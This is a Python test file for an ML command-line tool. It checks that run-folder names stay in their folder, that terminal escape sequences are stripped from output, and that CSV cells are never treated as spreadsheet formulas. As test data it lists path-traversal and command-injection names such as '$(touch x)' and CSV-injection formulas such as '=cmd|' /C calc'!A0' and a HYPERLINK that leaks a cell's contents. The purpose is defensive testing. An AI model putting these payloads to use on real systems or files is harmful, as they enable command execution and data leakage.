"""Names stay inside their folder; what they hold reaches no terminal as a command and no spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import shutil
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from reliability.cases import tree
from reliability.running import Dlrun, count

from dlrun.cli.failures import report_failure
from dlrun.data.values import parse_number
from dlrun.errors import DataError
from dlrun.reporting.output import Output
from dlrun.reporting.progress import progress_bar
from dlrun.reporting.tables import Table, render_plain, render_rich
from dlrun.runs.csv_files import csv_cell, csv_line
from dlrun.runs.folder import claim_run_folder, folder_name
from dlrun.runs.json_text import to_json

NAMES = [
    "..", ".", "../x", "../../x", "/", "/tmp/x", "//x", "a/b", "a/../../b", "./a", "a/.", "a/..", "~", "~root", "~/x",
    "..\\x", "C:\\x", "\\\\host\\x", "a:b", "NUL", ".hidden", "...", "-rf", "--help", "--out=x", "$(touch x)",
    "`touch x`", "a;touch x", "a|b", "a&b", "a>b", "*", "?", "[a]", "{a,b}", "a b", " ", "", "\t", "a\nb", "a\rb",
    "a\0b", "\x1b[2J", "\u202eabc", "．．／x", "%2e%2e%2fx", "x" * 300, "名前", "é", "a'b", 'a"b', "#a", "!a",
]  # fmt: skip


def test_there_are_at_least_40_names() -> None:
    assert len(set(NAMES)) >= 40


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_run_s_folder_stays_where_runs_are(name: str, here: Path) -> None:
    root = here / "inside" / "runs"
    with claim_run_folder(out=None, name=name, command="train", root=root) as folder:
        folder.write_text("config.toml", "")
        assert folder.path.resolve().parent.parent == root.resolve()
        assert folder.path.parent.name == folder_name(name)
    assert set(tree(here)) >= {"inside", "inside/runs"}
    assert all(path.startswith("inside") for path in tree(here))


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_an_experiment_of_that_name_stays_inside_or_is_refused(name: str, dlrun: Dlrun, here: Path) -> None:
    """The name in the file, in an override, and as the file's own."""
    inside = here / "inside"
    inside.mkdir()
    shown = json.dumps(name, ensure_ascii=False).replace("\x7f", "\\u007f")
    (here / "e.toml").write_text(f'name = {shown}\ndata.source = "xor"\ntraining.epochs = 0\n')
    (here / "f.toml").write_text('data.source = "xor"\ntraining.epochs = 0\n')
    lines = [["../e.toml"], ["../f.toml", "--set", f"name={shown}"]]
    if name and "/" not in name and "\0" not in name and len(name) < 200:
        path = here / f"{name}.toml"
        shutil.copy(here / "f.toml", path)
        lines.append([f"../{name}.toml"])
    before = set(tree(here))
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(inside)
        for line in lines:
            result = dlrun("train", *line, "--device", "cpu", "--set", "model.kind=majority")
            assert result.status in (0, 2), result.stderr
            assert not CONTROLS.search(result.stderr + result.stdout)
    made = set(tree(here)) - before
    assert all(path.startswith("inside/runs") for path in made)
    assert {part for path in made for part in Path(path).parts if part.startswith((".", "-", "~"))} <= {".lock"}


# -- terminals -------------------------------------------------------------------------------------

# All that a terminal obeys or that reorders its lines; the line break alone is ours.
CONTROLS = re.compile("[\0-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
SPICE = ["\x1b[31m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b31m", "\r", "\b\b\b", "\0", "\x7f", "\u202e", "\u2066",
         "\u2028", "\x85", "\udc9b", "\x1bP+q\x1b\\", "\x1b[?1049h", "\n", "\t", "\x0c", "\x1b(0", "[red]", ":smile:",
         "é", "名", "a", "Z", " ", "=", "\x1b[6n", "\u200f", "\x1b]8;;http://x\x07"]  # fmt: skip


def fuzzed(number: int) -> str:
    """A name of letters, controls and whole escape sequences."""
    draw = random.Random(number)
    letters = [draw.choice(SPICE) if draw.random() < 0.7 else chr(draw.randrange(0x3000)) for _ in range(8)]
    return "".join(letters) + "\x1b[5m"


FUZZED = [fuzzed(number) for number in range(count(1000, 10_000))]


def through_a_table(name: str) -> str:
    return render_plain(Table(title=name, columns=[name], rows=[(name,)], footnotes=[name]))


def through_a_grid(name: str) -> str:
    from rich.console import Console

    text = io.StringIO()
    console = Console(file=text, color_system=None, force_terminal=False, width=200)
    console.print(render_rich(Table(title=name, columns=[name], rows=[(name,)], footnotes=[name])))
    return text.getvalue()


def through_a_note(name: str, capsys: pytest.CaptureFixture[str]) -> str:
    Output().note(f"note: {name}")
    return capsys.readouterr().err


def through_a_text(name: str, capsys: pytest.CaptureFixture[str]) -> str:
    Output().result({}, name)
    return capsys.readouterr().out


def through_json(name: str) -> str:
    text = to_json({name: [name]})
    assert json.loads(text) == {name: [name]}  # and it says the same
    return text


def through_an_error(name: str, capsys: pytest.CaptureFixture[str]) -> str:
    report_failure(DataError(f"{name}, column {name!r}: {name}"), [name])
    return capsys.readouterr().err


def through_a_traceback(name: str, capsys: pytest.CaptureFixture[str]) -> str:
    report_failure(DataError(name), ["--debug"])
    return capsys.readouterr().err


WAYS: list[Callable[..., str]] = [
    through_a_table,
    through_a_grid,
    through_a_note,
    through_a_text,
    through_json,
    through_an_error,
    through_a_traceback,
]


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
def test_no_control_character_of_1000_names_reaches_a_terminal(
    way: Callable[..., str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("dlrun.cli.failures.ignore_further_signals", lambda: None)
    needs = way.__code__.co_varnames[: way.__code__.co_argcount]
    assert len(FUZZED) >= 1000
    for name in FUZZED if way is not through_a_grid else FUZZED[: len(FUZZED) // 4]:
        shown = way(name, capsys) if "capsys" in needs else way(name)
        assert shown
        assert not CONTROLS.search(shown), ascii(name)


def test_no_control_character_reaches_a_progress_bar() -> None:
    """Rich's own sequences stand in the text; none that a name brought does."""
    from rich.console import Console

    for name in FUZZED[: len(FUZZED) // 20]:
        text = io.StringIO()
        console = Console(file=text, force_terminal=True, markup=False, emoji=False, width=200, color_system=None)
        with progress_bar(console, name, 1) as advance:
            advance(note=name)
        own = re.sub(r"\x1b\[(\?25[lh]|[0-9;]*[AK]|1A)|\r|\x1b\[2K", "", text.getvalue())
        assert not CONTROLS.search(own), ascii(name)


def test_csv_on_a_terminal_holds_none_and_in_a_pipe_is_as_in_a_file(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in (re.sub("[\ud800-\udfff]", "", name) for name in FUZZED[:200]):  # which the test's stream refuses
        Output().csv([name], [(name,)])
        assert capsys.readouterr().out == csv_line([name]) * 2
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    for name in FUZZED:
        Output().csv([name], [(name,)])
        assert not CONTROLS.search(capsys.readouterr().out)


def test_every_control_of_unicode_is_known() -> None:
    known = {chr(code) for code in range(sys.maxunicode + 1) if CONTROLS.match(chr(code))} | {"\n"}
    for code in range(sys.maxunicode + 1):
        if unicodedata.category(chr(code)) in ("Cc", "Cs", "Zl", "Zp"):
            assert chr(code) in known
        if unicodedata.bidirectional(chr(code)) in ("LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"):
            assert chr(code) in known


@pytest.mark.parametrize("number", range(count(6, 200)))
def test_a_hostile_table_through_the_commands(number: int, dlrun: Dlrun, here: Path) -> None:
    """Column names, labels, categories and the file's own name, in results and in errors."""
    names = [re.sub("[/\0\ud800-\udfff\n\r]", "", fuzzed(5 * number + n)).strip() + str(n) for n in range(4)]
    target, numeric, text, labels = names
    file = f"t{re.sub('[/~]', '', names[0])}.csv"
    rows = [(labels + "ab"[n % 2], n, "uvw"[n % 3] + labels) for n in range(24)]
    (here / file).write_text("".join(map(quoted, [(target, numeric, text), *rows])), encoding="utf-8")
    data = ("--data", file, "--target", target, "--device", "cpu")
    short = ("--set", "training.epochs=1", "--set", "model.hidden=[]")
    trained = dlrun("train", *data, *short, "--out", "run")
    assert trained.status == 0, trained.stderr
    every = [trained, dlrun("train", *data, *short, "--json", "--out", "json"), dlrun("evaluate", "run")]
    every += [dlrun("evaluate", "run", "--json"), dlrun("show", "run/config.toml")]
    every += [dlrun("train", "--data", file, "--target", labels), dlrun("train", "--data", names[1], "--target", "y")]
    every += [dlrun(names[2]), dlrun("train", names[2]), dlrun("train", "iris", "--set", names[3])]
    every += [dlrun("train", *data, "--out", "run"), dlrun("predict", "run", "--data", file, "--out", names[1])]
    for result in every:
        assert "Traceback" not in result.stderr
        assert not CONTROLS.search(result.stdout + result.stderr)


def quoted(cells: tuple[Any, ...]) -> str:
    return ",".join('"' + str(cell).replace('"', '""') + '"' for cell in cells) + "\n"


# -- spreadsheets ----------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+1+1", "-1-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1",
            '=HYPERLINK("http://x?"&A1,"y")', "=", "+", "-", "@", "--1", "+-1", "-1e", "-1_000", "-١",
            "=,", '="a"']  # fmt: skip
NUMBERS = ["-1", "+1", "-0.5", "-.5", "-1.", "-1e-300", "+2.5E+10", "-0", "-123456789012345678901234567890"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_is_told_apart(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(csv_cell(text) + "\n", newline=""))
    assert cell == "'" + text


@pytest.mark.parametrize("text", NUMBERS)
def test_a_negative_number_stays_one(text: str) -> None:
    assert csv_cell(text) == text
    number = float(text)
    for kind in (float, np.float64, np.float32):
        value = kind(number)
        assert kind(csv_cell(value)) == value
        assert not csv_cell(value).startswith("'")


def runnable(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) and parse_number(cell) is None


HOSTILE = "=a,@b,+c+c,-d-d\n" + "".join(
    f"{n},{['=u', '@v', '+w+w'][n % 3]},{-n},{['=no', '-yes-'][n % 2]}\n" for n in range(24)
)
WRITERS = {
    "train": ("--set", "training.epochs=2"),
    "crossval": ("--folds", "3", "--set", "training.epochs=1"),
    "holdout": ("--repeats", "2", "--set", "training.epochs=1"),
    "bootstrap": ("--samples", "3", "--set", "training.epochs=1"),
    "tune": ("--trials", "2", "--set", "training.epochs=1"),
    "gradcheck": ("--set", "model.hidden=[2]"),
}


@pytest.mark.parametrize("command", WRITERS)
def test_no_file_that_a_command_writes_holds_a_formula(command: str, dlrun: Dlrun, here: Path) -> None:
    (here / "t.csv").write_text(HOSTILE)
    result = dlrun(command, "--data", "t.csv", "--target", "-d-d", *WRITERS[command], "--out", "run")
    assert result.status in (0, 1), result.stderr
    if command == "train":
        assert dlrun("predict", "run", "--data", "t.csv", "--out", "run/predictions.csv", "--device", "cpu").status == 0
    files = sorted((here / "run").glob("*.csv"))
    assert files
    for path in files:
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                assert not any(map(runnable, row)), (path.name, row)


def test_a_smoothed_table_holds_no_formula_and_keeps_its_numbers(dlrun: Dlrun, here: Path) -> None:
    (here / "t.csv").write_text(HOSTILE)
    result = dlrun("smooth", "t.csv", "--column", "+c+c", "--beta", "0.5", "--out", "s.csv")
    assert result.status == 0, result.stderr
    with (here / "s.csv").open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    assert not any(runnable(cell) for row in [header, *rows] for cell in row)
    assert [float(row[2]) for row in rows] == [-n for n in range(24)]


def test_csv_files_have_one_writer() -> None:
    """Every CSV file goes through `csv_line`: no module of the package uses another writer.

    But for a frame that Python is given: it is the user's own rows, to be read again as they are.
    """
    import dlrun as package

    for path in Path(package.__file__).parent.rglob("*.py"):
        if path.match("workflows/opening.py"):
            continue
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"csv\.(writer|DictWriter)|\.to_csv\(|savetxt", text), path
